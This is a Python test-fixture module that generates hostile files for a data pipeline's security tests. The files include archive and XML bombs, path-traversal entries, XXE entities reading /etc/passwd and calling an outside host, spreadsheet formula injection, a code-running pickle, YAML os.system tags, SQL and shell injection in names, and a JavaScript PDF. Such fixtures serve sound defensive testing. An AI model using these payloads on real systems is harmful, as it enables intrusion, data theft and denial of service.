"""Files made to hurt whoever opens them: each class that docs/security.md names, by what is in the file."""

import json
import pickle
import tarfile
from io import BytesIO
from zipfile import ZipFile

from pipeline.rehearse.formats import office, packs, pdfs
from tests.hostile.goods import CSV, GRID, MESSAGE, sqlite

ESCAPE = "\x1b[2J\x1b]0;owned\x07"
ENTITIES = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://192.0.2.1/x">%p;]>'
ZEROS = b"\0" * (60 << 20)
FORMULAS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://192.0.2.1")']


class Dangerous:
    """What would run if anybody unpickled it."""

    def __reduce__(self) -> tuple:
        return (print, ("owned",))


def archives() -> dict[str, bytes]:
    """Bombs, names that lead out, links, twins, locks, and archives without end."""
    deep = packs.zipped({"a.csv": CSV})
    for _ in range(9):
        deep = packs.zipped({"a.zip": deep})
    lies = bytearray(packs.zipped({"a.csv": ZEROS[: 1 << 20]}))
    at = lies.rfind(b"PK\1\2")
    lies[at + 24 : at + 28] = (10).to_bytes(4, "little")
    out = [
        packs.link("l", "/etc/passwd"),
        packs.link("h", "/etc/shadow", tarfile.LNKTYPE),
        packs.link("d", "", tarfile.BLKTYPE),
    ]
    huge = tarfile.TarInfo("sparse.csv")
    huge.size = 1 << 60
    return {
        "bomb.zip": packs.zipped({"a.csv": ZEROS * 3}),
        "bomb.csv.gz": packs.packed(ZEROS * 3, "gz"),
        "bomb.csv.xz": packs.packed(ZEROS * 3, "xz"),
        "bomb.csv.bz2": packs.packed(ZEROS * 3, "bz2"),
        "nested_bomb.zip": packs.zipped({f"{i}.zip": packs.zipped({"a.csv": ZEROS}) for i in range(3)}),
        "many.zip": packs.zipped({f"{i}": b"" for i in range(51_000)}),
        "deep.zip": deep,
        "lies.zip": bytes(lies),
        "out.zip": packs.zipped(
            {"../evil": b"x", "/evil": b"x", "..\\evil": b"x", "C:\\evil": b"x"}, links={"l": "/etc/passwd"}
        ),
        "out.tar": packs.tarred({"../evil": b"x", "/evil": b"x"}, odd=out),
        "out.7z": packs.seven_zipped({"a.csv": CSV}).replace(b"a\0.\0c", b".\0.\0/"),
        "twins.zip": packs.zipped({"A.csv": CSV, "a.csv": CSV, "é": b"x", "e\u0301": b"x", "A.csv/x": b"x"}),
        "devices.zip": packs.zipped({"CON": b"x", "aux.txt": b"x", "com1.csv": b"x"}),
        "names.zip": packs.zipped({f"{ESCAPE}.csv": CSV, "a\u202excod.csv": CSV, "x" * 300: b"x", "b!/c.csv": CSV}),
        "endless.tar": packs.tarred({"a.csv": CSV}, odd=[huge]),
        "locked.zip": packs.zipped({"a.csv": CSV}, password="x"),  # noqa: S106
        "locked.7z": packs.seven_zipped({"a.csv": CSV}, password="x"),  # noqa: S106
        "empty.zip": packs.zipped({}),
    }


def office_files() -> dict[str, bytes]:
    """Entities, document types, macros, and parts that unpack to far more than they are."""
    book = office.xlsx({"A": GRID})
    return {
        "entities.docx": office.docx(["x"], before=ENTITIES),
        "outside.docx": office.docx(["x"], before=OUTSIDE),
        "bomb.docx": office.parcel({"word/document.xml": b"<a>" + b" " * (230 << 20) + b"</a>"}),
        "deep.docx": office.parcel({"word/document.xml": b"<a>" * 200_000 + b"</a>" * 200_000}),
        "entities.xlsx": _with(book, "xl/workbook.xml", ENTITIES),
        "outside.xlsx": _with(book, "xl/worksheets/sheet1.xml", OUTSIDE),
        "entities.ods": _with(office.ods({"A": GRID}), "content.xml", OUTSIDE),
        "formulas.xlsx": office.xlsx({"=1+1": [["Reference", "Country"], *[[text, text] for text in FORMULAS]]}),
        "macro.xlsm": _more(book, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 100}),
        "links.xlsx": _more(book, {"xl/externalLinks/externalLink1.xml": b'<a href="http://192.0.2.1/"/>'}),
    }


def texts() -> dict[str, bytes]:
    """Tables, pages, mails and databases with cells, headers and names that are meant to be run by somebody."""
    rows = "".join(f'A-{i},"{text}"\n' for i, text in enumerate(FORMULAS))
    header = ",".join(f"column {i}" for i in range(200_000))
    part = "Content-Type: multipart/mixed; boundary=b{0}\n\n--b{0}\n"
    evil = 'x"; drop table staged.requests; --'
    return {
        "formulas.csv": f"Reference,Country\n{rows}".encode(),
        "escapes.csv": f"Reference,Country{ESCAPE}\nA-1,{ESCAPE}\n".encode(),
        "script.csv": b"Reference,<script>alert(1)</script>\nA-1,<img src=x onerror=alert(1)>\n",
        "huge_header.csv": f"{header}\n1,2\n".encode(),
        "long_line.csv": b"Reference,Country\n" + b"x" * (20 << 20),
        "open_quote.csv": b'Reference,Country\nA-1,"never closed\n' + CSV * 20,
        "nul.csv": CSV.replace(b"INV-0003", b"INV\x00-0003"),
        "all_nul.csv": b"\0" * 10_000,
        "sql.csv": f"{evil},select * from read_csv('/etc/passwd')\nA-1,RUS\n".encode(),
        "deep.json": b"[" * 100_000 + b"]" * 100_000,
        "deep_object.json": b'{"a":' * 5_000 + b"1" + b"}" * 5_000,
        "wide.json": json.dumps([{f"k{i}": i for i in range(20_000)}]).encode(),
        "number.json": b'[{"a": ' + b"9" * 200_000 + b"}]",
        "halves.json": b'[{"Reference": "\\ud800", "Country": "x"}]',
        "keys.json": b'[{"__class__": "os.system", "Reference": "a", "$ref": "http://192.0.2.1"}]',
        "pickle.parquet": pickle.dumps(Dangerous()),
        "pickle.csv": pickle.dumps([Dangerous()] * 100, protocol=0),
        "entities.html": f"{ENTITIES}<html><body>&b;<table><tr><td>a<td>b<tr><td>&b;<td>2</table></html>".encode(),
        "fetch.html": b"<html><img src=http://192.0.2.1/a><iframe src=file:///etc/passwd></iframe><p>words</html>",
        "spans.html": b"<table>" + b"<tr><td colspan=99999 rowspan=99999>a" * 50 + b"</table>",
        "open_tags.html": b"<table><tr><td>" * 20_000,
        "parts.eml": ("From: a@b\n" + "".join(part.format(i) for i in range(3_000))).encode(),
        "headers.eml": b"From: a@b\nSubject: " + b"=?utf-8?B?//8=?= " * 50_000 + b"\n\nwords",
        "names.eml": (
            b"From: a@b\nContent-Type: multipart/mixed; boundary=q\n\n--q\n\nwords\n--q\nContent-Disposition: "
            b'attachment; filename="../../evil.csv"\n\na,b\n1,2\n--q--\n'
        ),
        "escapes.txt": MESSAGE.replace("INVENTED", ESCAPE).encode(),
        "deep.rtf": b"{\\rtf1 " + b"{" * 200_000,
        "object.rtf": b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000}}words\\par}",
        "view.db": sqlite(
            [
                f'create table "{evil.replace(chr(34), chr(34) * 2)}" (a text, b text)',
                "create view v as select load_extension('x')",
                f'insert into "{evil.replace(chr(34), chr(34) * 2)}" values (?, ?)',
            ],
            [["1", "2"]],
        ),
        "virtual.db": sqlite(
            ["create virtual table f using fts5(a)", "create table t (a text, b text)", "insert into t values (?, ?)"],
            [["1", "2"]],
        ),
        "script.pdf": pdfs.pdf([pdfs.text_page(["words of a page"])]).replace(
            b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>"
        ),
        "loop.pdf": pdfs.pdf([pdfs.text_page(["words"])]).replace(b"/Kids[5 0 R]", b"/Kids[2 0 R]"),
        "pages.pdf": pdfs.pdf([pdfs.text_page(["words"])]).replace(b"/Count 1", b"/Count 9"),
        **dict.fromkeys(ODD_NAMES, CSV),
    }


ODD_NAMES = (
    "*.csv",
    "[a-z].csv",
    "?.csv",
    "'; drop table x; --.csv",
    "$(touch evil).csv",
    "{a,b}.csv",
    "-rf.csv",
    "a'b.csv",
)

SOURCES = {
    "python object": "title: x\nnature: !!python/object/apply:os.system ['touch evil']\n",
    "python name": "title: !!python/name:os.system\nnature: invented\n",
    "own tag": "title: !evil x\nnature: invented\n",
    "bomb": "title: x\nnature: invented\nnote: &a [x,x,x,x,x,x,x,x,x]\n"
    + "".join(f"n{i}: &a{i} [*a{i - 1 if i else ''}]\n" for i in range(3)),
    "deep": "title: x\nnature: invented\nnote: " + "[" * 3_000 + "]" * 3_000,
    "nul": "title: x\0y\nnature: invented\n",
    "password itself": "title: x\nnature: invented\nfiles:\n  a.zip: {password_env: hunter2}\n",
}


def all_of() -> dict[str, bytes]:
    """Every file of these classes by name."""
    return {**archives(), **office_files(), **texts()}


def _with(parcel: bytes, part: str, before: str) -> bytes:
    """An office file with a document type in front of the root of one of its parts."""
    parts = _parts(parcel)
    head, mark, rest = parts[part].decode().partition("?>")
    return office.parcel({**parts, part: f"{head}{mark}{before}{rest}".encode()})


def _more(parcel: bytes, more: dict[str, bytes]) -> bytes:
    return office.parcel({**_parts(parcel), **more})


def _parts(parcel: bytes) -> dict[str, bytes]:
    with ZipFile(BytesIO(parcel)) as file:
        return {name: file.read(name) for name in file.namelist()}
